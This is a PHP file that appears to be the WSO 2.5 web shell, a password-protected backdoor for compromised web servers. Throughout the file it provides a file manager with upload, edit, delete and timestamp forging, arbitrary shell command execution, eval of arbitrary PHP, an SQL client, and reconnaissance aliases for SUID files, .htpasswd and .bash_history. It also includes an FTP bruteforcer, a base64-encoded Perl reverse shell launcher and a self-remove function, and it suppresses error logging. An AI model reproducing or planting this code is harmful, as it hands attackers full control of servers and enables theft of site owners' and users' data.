<?php
$auth_pass = "63a9f0ea7bb98050796b649e85481845";
$color = "#df5";
$default_action = 'FilesMan';
$default_use_ajax = true;
$default_charset = 'Windows-1251';
@ini_set('error_log', NULL);
@ini_set('log_errors', 0);
@ini_set('max_execution_time', 0);
@set_time_limit(0);
@define('WSO_VERSION', '2.5');
if (get_magic_quotes_gpc()) {
    function wsoStripSlashes($array) { return is_array($array) ? array_map('wsoStripSlashes', $array) : stripslashes($array); }
    $_POST = wsoStripSlashes($_POST);
    $_COOKIE = wsoStripSlashes($_COOKIE);
}
function wsoLogin() {
    die("<pre align=center><form method=post>Password: <input type=password name=pass><input type=submit value='>>'></form></pre>");
}
function WSOsetcookie($k, $v) {
    $_COOKIE[$k] = $v;
    setcookie($k, $v);
}
if (!empty($auth_pass)) {
    if (isset($_POST['pass']) && (md5($_POST['pass']) == $auth_pass)) { WSOsetcookie(md5($_SERVER['HTTP_HOST']), $auth_pass); }
    if (!isset($_COOKIE[md5($_SERVER['HTTP_HOST'])]) || ($_COOKIE[md5($_SERVER['HTTP_HOST'])] != $auth_pass)) { wsoLogin(); }
}
if (strtolower(substr(PHP_OS, 0, 3)) == "win") { $os = 'win'; } else { $os = 'nix'; }
$safe_mode = @ini_get('safe_mode');
if (!$safe_mode) { error_reporting(0); }
$disable_functions = @ini_get('disable_functions');
$home_cwd = @getcwd();
if (isset($_POST['c'])) { @chdir($_POST['c']); }
$cwd = @getcwd();
if ($os == 'win') { $home_cwd = str_replace("\\", "/", $home_cwd); $cwd = str_replace("\\", "/", $cwd); }
if ($cwd[strlen($cwd) - 1] != '/') { $cwd .= '/'; }
if (!isset($_COOKIE[md5($_SERVER['HTTP_HOST']) . 'ajax'])) { $_COOKIE[md5($_SERVER['HTTP_HOST']) . 'ajax'] = (bool)$default_use_ajax; }
if ($os == 'win') {
    $aliases = array("List Directory" => "dir", "Find index.php in current dir" => "dir /s /w /b index.php", "Show active connections" => "netstat -an", "IP Configuration" => "ipconfig /all");
} else {
    $aliases = array("List dir" => "ls -lha", "list file attributes on a Linux second extended file system" => "lsattr -va", "show opened ports" => "netstat -an | grep -i listen",
        "Find" => "", "find all suid files" => "find / -type f -perm -04000 -ls", "find suid files in current dir" => "find . -type f -perm -04000 -ls",
        "find all sgid files" => "find / -type f -perm -02000 -ls", "find config.inc.php files" => "find / -type f -name config.inc.php",
        "find all .htpasswd files" => "find / -type f -name .htpasswd", "find all .bash_history files" => "find / -type f -name .bash_history",
        "Locate" => "", "locate httpd.conf files" => "locate httpd.conf", "locate vhosts.conf files" => "locate vhosts.conf");
}
function wsoHeader() {
    if (empty($_POST['charset'])) { $_POST['charset'] = $GLOBALS['default_charset']; }
    global $color;
    echo "<html><head><meta http-equiv='Content-Type' content='text/html; charset=" . $_POST['charset'] . "'><title>" . $_SERVER['HTTP_HOST'] . " - WSO " . WSO_VERSION . "</title>
<style>body{background-color:#444;color:#e1e1e1}body,td,th{font:9pt Lucida,Verdana;margin:0;vertical-align:top;color:#e1e1e1}span,h1,a{color:$color !important}</style>
<script>var c_ = '" . htmlspecialchars($GLOBALS['cwd']) . "'; var a_ = '" . htmlspecialchars(@$_POST['a']) . "'; var charset_ = '" . htmlspecialchars(@$_POST['charset']) . "';
function g(a,c,p1,p2,p3,charset) { if(a!=null)d.mf.a.value=a;else d.mf.a.value=a_; if(c!=null)d.mf.c.value=c;else d.mf.c.value=c_; if(p1!=null)d.mf.p1.value=p1; if(p2!=null)d.mf.p2.value=p2; if(p3!=null)d.mf.p3.value=p3; d.mf.submit(); }</script>
</head><body><div style='position:absolute;width:100%;background-color:#444;top:0;left:0;'>
<form method=post name=mf style='display:none;'><input type=hidden name=a><input type=hidden name=c><input type=hidden name=p1><input type=hidden name=p2><input type=hidden name=p3><input type=hidden name=charset></form>";
    $freeSpace = @diskfree_space($GLOBALS['cwd']);
    $totalSpace = @disk_total_space($GLOBALS['cwd']);
    $uid = function_exists('posix_getpwuid') ? posix_getpwuid(posix_geteuid()) : array('name' => @get_current_user());
    $menu = array('Sec. Info' => 'SecInfo', 'Files' => 'FilesMan', 'Console' => 'Console', 'Sql' => 'Sql', 'Php' => 'Php', 'String tools' => 'StringTools', 'Bruteforce' => 'Bruteforce', 'Network' => 'Network');
    if (!empty($GLOBALS['auth_pass'])) { $menu['Logout'] = 'Logout'; }
    $menu['Self remove'] = 'SelfRemove';
    $m = '';
    foreach ($menu as $k => $v) { $m .= '<th width="' . (int)(100 / count($menu)) . '%">[ <a href="#" onclick="g(\'' . $v . '\',null,\'\',\'\',\'\')">' . $k . '</a> ]</th>'; }
    echo '<table class=info cellpadding=3 cellspacing=0 width=100%><tr><td><span>Uname:<br>User:<br>Php:<br>Hdd:<br>Cwd:</span></td><td><nobr>' . substr(@php_uname(), 0, 120) . '</nobr><br>' . $uid['name'] . '<br>' . @phpversion() . ' <span>Safe mode:</span> ' . ($GLOBALS['safe_mode'] ? '<font color=red>ON</font>' : '<font color=green><b>OFF</b></font>') . '<br>' . wsoViewSize($totalSpace) . '<br>' . htmlspecialchars($GLOBALS['cwd']) . '</td></tr></table>';
    echo '<table style="border-top:2px solid #333;" cellpadding=3 cellspacing=0 width=100%><tr>' . $m . '</tr></table><div style="margin:5">';
}
function wsoFooter() {
    echo "</div><table class=info id=toolsTbl cellpadding=3 cellspacing=0 width=100%><tr><td><form onsubmit='g(null,this.c.value,\"\");return false;'><span>Change dir:</span><br><input class='toolsInp' type=text name=c value='" . htmlspecialchars($GLOBALS['cwd']) . "'><input type=submit value='>>'></form></td>
<td><form method='post' ENCTYPE='multipart/form-data'><input type=hidden name=a value='FilesMAn'><input type=hidden name=c value='" . $GLOBALS['cwd'] . "'><input type=hidden name=p1 value='uploadFile'><span>Upload file:</span><br><input class='toolsInp' type=file name=f><input type=submit value='>>'></form></td></tr></table></div></body></html>";
}
function wsoEx($in) {
    $out = '';
    if (function_exists('exec')) { @exec($in, $out); $out = @join("\n", $out); }
    elseif (function_exists('passthru')) { ob_start(); @passthru($in); $out = ob_get_clean(); }
    elseif (function_exists('system')) { ob_start(); @system($in); $out = ob_get_clean(); }
    elseif (function_exists('shell_exec')) { $out = shell_exec($in); }
    elseif (is_resource($f = @popen($in, "r"))) { $out = ""; while (!@feof($f)) { $out .= fread($f, 1024); } pclose($f); }
    return $out;
}
function wsoViewSize($s) {
    if (is_int($s)) { $s = sprintf("%u", $s); }
    if ($s >= 1073741824) { return sprintf('%1.2f', $s / 1073741824) . ' GB'; }
    elseif ($s >= 1048576) { return sprintf('%1.2f', $s / 1048576) . ' MB'; }
    elseif ($s >= 1024) { return sprintf('%1.2f', $s / 1024) . ' KB'; }
    return $s . ' B';
}
function wsoPerms($p) {
    if (($p & 0xC000) == 0xC000) { $i = 's'; } elseif (($p & 0x4000) == 0x4000) { $i = 'd'; } else { $i = '-'; }
    $i .= (($p & 0x0100) ? 'r' : '-') . (($p & 0x0080) ? 'w' : '-') . (($p & 0x0040) ? 'x' : '-');
    $i .= (($p & 0x0020) ? 'r' : '-') . (($p & 0x0010) ? 'w' : '-') . (($p & 0x0008) ? 'x' : '-');
    $i .= (($p & 0x0004) ? 'r' : '-') . (($p & 0x0002) ? 'w' : '-') . (($p & 0x0001) ? 'x' : '-');
    return $i;
}
function wsoPermsColor($f) {
    if (!@is_readable($f)) { return '<font color=#FF0000>' . wsoPerms(@fileperms($f)) . '</font>'; }
    elseif (!@is_writable($f)) { return '<font color=white>' . wsoPerms(@fileperms($f)) . '</font>'; }
    return '<font color=#25ff00>' . wsoPerms(@fileperms($f)) . '</font>';
}
function wsoScandir($dir) {
    if (function_exists("scandir")) { return scandir($dir); }
    $dh = opendir($dir);
    while (false !== ($filename = readdir($dh))) { $files[] = $filename; }
    return $files;
}
function wsoWhich($p) {
    $path = wsoEx('which ' . $p);
    if (!empty($path)) { return $path; }
    return false;
}
function actionSecInfo() {
    wsoHeader();
    echo '<h1>Server security information</h1><div class=content>';
    echo '<span>Disabled PHP Functions:</span> ' . ($GLOBALS['disable_functions'] ? $GLOBALS['disable_functions'] : 'none') . '<br>';
    echo '<span>Open base dir:</span> ' . @ini_get('open_basedir') . '<br>';
    if ($GLOBALS['os'] == 'nix') {
        echo '<span>Readable /etc/passwd:</span> ' . (@is_readable('/etc/passwd') ? "yes <a href='#' onclick='g(\"FilesTools\", \"/etc/\", \"passwd\")'>[view]</a>" : 'no') . '<br>';
        echo '<span>Downloaders:</span> ' . implode(', ', array_filter(array(wsoWhich('wget'), wsoWhich('curl'), wsoWhich('lynx')))) . '<br>';
    }
    echo '</div>';
    wsoFooter();
}
function actionFilesMan() {
    wsoHeader();
    echo '<h1>File manager</h1><div class=content>';
    if (!empty($_POST['p1'])) {
        switch ($_POST['p1']) {
            case 'uploadFile':
                if (!@move_uploaded_file($_FILES['f']['tmp_name'], $_FILES['f']['name'])) { echo "Can't upload file!"; }
                break;
            case 'mkdir':
                if (!@mkdir($_POST['p2'])) { echo "Can't create new dir"; }
                break;
            case 'delete':
                foreach ((array)$_POST['f'] as $f) { @unlink(urldecode($f)); }
                break;
        }
    }
    $dirContent = wsoScandir(isset($_POST['c']) ? $_POST['c'] : $GLOBALS['cwd']);
    echo "<table width='100%' class='main' cellspacing='0' cellpadding='2'><tr><th>Name</th><th>Size</th><th>Permissions</th><th>Actions</th></tr>";
    foreach ((array)$dirContent as $f) {
        $p = $GLOBALS['cwd'] . $f;
        echo '<tr><td><a href=# onclick="g(\'' . (@is_dir($p) ? 'FilesMan' : 'FilesTools') . '\',\'' . (@is_dir($p) ? urlencode($p) : null) . '\',\'' . urlencode($f) . '\', \'view\')">' . htmlspecialchars($f) . '</a></td><td>' . (@is_dir($p) ? 'dir' : wsoViewSize(@filesize($p))) . '</td><td>' . wsoPermsColor($p) . '</td><td><a href="#" onclick="g(\'FilesTools\',null,\'' . urlencode($f) . '\', \'rename\')">R</a> <a href="#" onclick="g(\'FilesTools\',null,\'' . urlencode($f) . '\', \'edit\')">E</a></td></tr>';
    }
    echo "</table></div>";
    wsoFooter();
}
function actionFilesTools() {
    if (isset($_POST['p1'])) { $_POST['p1'] = urldecode($_POST['p1']); }
    if (@$_POST['p2'] == 'download') {
        if (@is_file($_POST['p1']) && @is_readable($_POST['p1'])) {
            ob_start("ob_gzhandler", 4096);
            header("Content-Disposition: attachment; filename=" . basename($_POST['p1']));
            readfile($_POST['p1']);
        }
        exit;
    }
    wsoHeader();
    echo '<h1>File tools</h1><div class=content>';
    switch ($_POST['p2']) {
        case 'view':
            echo '<pre class=ml1>' . htmlspecialchars(@file_get_contents($_POST['p1'])) . '</pre>';
            break;
        case 'edit':
            if (!empty($_POST['p3'])) {
                $time = @filemtime($_POST['p1']);
                $fp = @fopen($_POST['p1'], "w");
                if ($fp) { @fwrite($fp, $_POST['p3']); @fclose($fp); echo 'Saved!<br>'; @touch($_POST['p1'], $time, $time); }
            }
            echo '<form onsubmit="g(null,null,\'' . urlencode($_POST['p1']) . '\',null,this.text.value);return false;"><textarea name=text class=bigarea>' . htmlspecialchars(@file_get_contents($_POST['p1'])) . '</textarea><input type=submit value=">>"></form>';
            break;
        case 'rename':
            if (!empty($_POST['p3'])) { @rename($_POST['p1'], $_POST['p3']); }
            break;
        case 'touch':
            if (!empty($_POST['p3'])) { $time = strtotime($_POST['p3']); @touch($_POST['p1'], $time, $time); }
            break;
    }
    echo '</div>';
    wsoFooter();
}
function actionConsole() {
    if (!empty($_POST['p1']) && !empty($_POST['p2'])) { WSOsetcookie(md5($_SERVER['HTTP_HOST']) . 'stderr_to_out', true); $_POST['p1'] .= ' 2>&1'; }
    if (isset($_POST['ajax'])) {
        WSOsetcookie(md5($_SERVER['HTTP_HOST']) . 'ajax', true);
        ob_start();
        echo "d.cf.cmd.value='';\n";
        $temp = @iconv($_POST['charset'], 'UTF-8', addcslashes("\n$ " . $_POST['p1'] . "\n" . wsoEx($_POST['p1']), "\n\r\t\\'\0"));
        echo "d.cf.output.value+='" . $temp . "';";
        echo strlen(ob_get_clean()) . "\n" . ob_get_clean();
        exit;
    }
    wsoHeader();
    echo "<h1>Console</h1><div class=content><form name=cf onsubmit=\"if(d.cf.cmd.value=='clear'){d.cf.output.value='';d.cf.cmd.value='';return false;}g(null,null,d.cf.cmd.value);return false;\"><select name=alias>";
    foreach ($GLOBALS['aliases'] as $n => $v) { echo '<option value="' . htmlspecialchars($v) . '">' . $n . '</option>'; }
    echo '</select><textarea class=bigarea name=output readonly>';
    if (!empty($_POST['p1'])) { echo htmlspecialchars("$ " . $_POST['p1'] . "\n" . wsoEx($_POST['p1'])); }
    echo '</textarea><input type=text name=cmd style="width:95%"></form></div>';
    wsoFooter();
}
function actionPhp() {
    if (isset($_POST['ajax'])) {
        WSOsetcookie(md5($_SERVER['HTTP_HOST']) . 'ajax', true);
        ob_start();
        eval($_POST['p1']);
        $temp = "document.getElementById('PhpOutput').style.display='';document.getElementById('PhpOutput').innerHTML='" . addcslashes(htmlspecialchars(ob_get_clean()), "\n\r\t\\'\0") . "';\n";
        echo strlen($temp), "\n", $temp;
        exit;
    }
    wsoHeader();
    echo '<h1>Execution PHP-code</h1><div class=content><form name=pf method=post onsubmit="g(null,null,this.code.value,\'\');return false;"><textarea name=code class=bigarea id=PhpCode>' . (!empty($_POST['p1']) ? htmlspecialchars($_POST['p1']) : '') . '</textarea><input type=submit value=Eval></form><pre id=PhpOutput>';
    if (!empty($_POST['p1'])) { ob_start(); eval($_POST['p1']); echo htmlspecialchars(ob_get_clean()); }
    echo '</pre></div>';
    wsoFooter();
}
function actionSql() {
    wsoHeader();
    echo "<h1>Sql browser</h1><div class=content>";
    if (@$_POST['p1'] == 'query' && !empty($_POST['p2'])) {
        $link = @mysqli_connect($_POST['sql_host'], $_POST['sql_login'], $_POST['sql_pass'], $_POST['sql_base']);
        $res = @mysqli_query($link, $_POST['p2']);
        while ($item = @mysqli_fetch_assoc($res)) { echo '<tr><td>' . implode('</td><td>', array_map('htmlspecialchars', $item)) . '</td></tr>'; }
    }
    echo "<form name=sf method=post><input type=hidden name=a value='Sql'>Host <input name=sql_host value=localhost> Login <input name=sql_login value=root> Password <input name=sql_pass> Database <input name=sql_base><textarea name=p2></textarea><input type=hidden name=p1 value=query><input type=submit></form></div>";
    wsoFooter();
}
function actionNetwork() {
    wsoHeader();
    $back_connect_p = "IyEvdXNyL2Jpbi9wZXJsDQp1c2UgU29ja2V0Ow0KJGlhZGRyPWluZXRfYXRvbigkQVJHVlswXSkgfHwgZGllKCJFcnJvcjogJCFcbiIpOw0K";
    if (isset($_POST['p1']) && $_POST['p1'] == 'bcp') {
        file_put_contents("/tmp/bcp.pl", base64_decode($back_connect_p));
        $out = wsoEx("perl /tmp/bcp.pl " . $_POST['p2'] . " " . $_POST['p3'] . " 1>/dev/null 2>&1 &");
        echo "<pre class=ml1>" . htmlspecialchars(wsoEx("ps aux | grep bcp.pl")) . "</pre>";
        unlink("/tmp/bcp.pl");
    }
    echo "<h1>Network tools</h1><div class=content><form name='nfp' onSubmit=\"g(null,null,'bcp',this.server.value,this.port.value);return false;\"><span>Back-connect [perl]</span><br>Server: <input type='text' name='server' value='127.0.0.1'> Port: <input type='text' name='port' value='31337'> <input type=submit value='>>'></form></div>";
    wsoFooter();
}
function actionSelfRemove() {
    if ($_POST['p1'] == 'yes') {
        if (@unlink(preg_replace('!\(\d+\)\s.*!', '', __FILE__))) { die('Shell has been removed'); }
        else { echo 'unlink error!'; }
    }
    if ($_POST['p1'] != 'yes') { wsoHeader(); }
    echo '<h1>Suicide</h1><div class=content>Really want to remove the shell?<br><a href=# onclick="g(null,null,\'yes\')">Yes</a></div>';
    wsoFooter();
}
function actionLogout() {
    setcookie(md5($_SERVER['HTTP_HOST']), '', time() - 3600);
    die('bye!');
}
function actionBruteforce() {
    wsoHeader();
    if (isset($_POST['proto'])) {
        echo '<h1>Results</h1><div class=content><span>Type:</span> ' . htmlspecialchars($_POST['proto']) . ' <span>Server:</span> ' . htmlspecialchars($_POST['server']) . '<br>';
        $success = 0; $attempts = 0;
        $server = explode(":", $_POST['server']);
        if ($_POST['proto'] == 'ftp') {
            function wsoBruteForce($ip, $port, $login, $pass) { $fp = @ftp_connect($ip, $port ? $port : 21); if (!$fp) { return false; } $res = @ftp_login($fp, $login, $pass); @ftp_close($fp); return $res; }
        }
        $temp = @file('/etc/passwd');
        foreach ((array)$temp as $line) {
            $line = explode(":", $line); ++$attempts;
            if (wsoBruteForce(@$server[0], @$server[1], $line[0], $line[0])) { $success++; echo '<b>' . htmlspecialchars($line[0]) . '</b>:' . htmlspecialchars($line[0]) . '<br>'; }
        }
        echo "<span>Attempts:</span> $attempts <span>Success:</span> $success</div><br>";
    }
    wsoFooter();
}
if (empty($_POST['a'])) {
    if (isset($default_action) && function_exists('action' . $default_action)) { $_POST['a'] = $default_action; }
    else { $_POST['a'] = 'SecInfo'; }
}
if (!empty($_POST['a']) && function_exists('action' . $_POST['a'])) { call_user_func('action' . $_POST['a']); }
exit;
